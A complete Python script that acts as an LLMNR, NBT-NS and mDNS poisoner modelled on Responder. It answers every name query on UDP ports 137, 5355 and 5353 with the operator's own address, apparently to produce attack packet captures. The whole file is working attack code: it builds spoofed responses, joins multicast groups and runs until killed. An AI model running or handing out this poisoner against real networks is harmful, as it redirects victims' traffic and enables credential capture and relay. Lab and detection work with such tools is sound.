#!/usr/bin/env python3
"""The attacker of the captures: answers every NBT-NS name query (UDP 137), every LLMNR
query (UDP 5355) and every mDNS question for a .local name (UDP 5353) with its own address,
as Responder does. Plain sockets, no library: a few lines of RFC 1002, 4795 and 6762. Runs
until killed.

usage: poisoner.py ADDRESS
"""
import select
import socket
import struct
import sys

ME = sys.argv[1]


def nbns_answer(query):
    """A positive name query response for the question of `query` (RFC 1002 4.2.13)."""
    ident, flags, qd = struct.unpack('>HHH', query[:6])
    if flags & 0x8000 or (flags >> 11) & 0xf != 0 or qd != 1:
        return None
    name_end = 12 + 1 + query[12] + 1          # the encoded name: a 32-byte label, then 0
    qtype = struct.unpack('>H', query[name_end:name_end + 2])[0]
    if qtype != 0x20:                          # NB only, not node status
        return None
    name = query[12:name_end]
    return (struct.pack('>HHHHHH', ident, 0x8500, 0, 1, 0, 0) + name
            + struct.pack('>HHIH', 0x20, 1, 165, 6) + struct.pack('>H', 0) + socket.inet_aton(ME))


def llmnr_answer(query):
    """An LLMNR response giving our address for an A question (RFC 4795 2.1.1)."""
    ident, flags, qd = struct.unpack('>HHH', query[:6])
    if flags & 0x8000 or qd != 1:
        return None
    end = 12
    while query[end]:
        end += 1 + query[end]
    question = query[12:end + 5]
    qtype = struct.unpack('>H', query[end + 1:end + 3])[0]
    if qtype != 1:
        return None
    return (struct.pack('>HHHHHH', ident, 0x8000, 1, 1, 0, 0) + question
            + b'\xc0\x0c' + struct.pack('>HHIH', 1, 1, 30, 4) + socket.inet_aton(ME))


def mdns_answer(query):
    """A multicast mDNS response giving our address for an A question about a .local name
    (RFC 6762 6); probes (questions with proposed records) are left alone."""
    _, flags, qd, _, ns = struct.unpack('>HHHHH', query[:10])
    if flags & 0x8000 or qd != 1 or ns:
        return None
    end = 12
    while query[end]:
        end += 1 + query[end]
    qtype = struct.unpack('>H', query[end + 1:end + 3])[0]
    if qtype != 1 or not query[12:end].lower().endswith(b'\x05local'):
        return None
    return (struct.pack('>HHHHHH', 0, 0x8400, 0, 1, 0, 0) + query[12:end + 1]
            + struct.pack('>HHIH', 1, 0x8001, 120, 4) + socket.inet_aton(ME))


nbns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
nbns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
nbns.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
nbns.bind(('', 137))
llmnr = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
llmnr.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
llmnr.bind(('', 5355))
llmnr.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton('224.0.0.252') + socket.inet_aton(ME))
mdns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
mdns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
mdns.bind(('', 5353))
mdns.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton('224.0.0.251') + socket.inet_aton(ME))
mdns.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(ME))
print('poisoning as', ME, flush=True)
while True:
    ready, _, _ = select.select([nbns, llmnr, mdns], [], [])
    for sock in ready:
        data, peer = sock.recvfrom(2048)
        if peer[0] == ME:
            continue
        answer = {nbns: nbns_answer, llmnr: llmnr_answer, mdns: mdns_answer}[sock](data)
        if answer:
            # mDNS answers go to the group, unless asked from another port than 5353
            to = ('224.0.0.251', 5353) if sock is mdns and peer[1] == 5353 else peer
            sock.sendto(answer, to)
            print('answered', peer, flush=True)
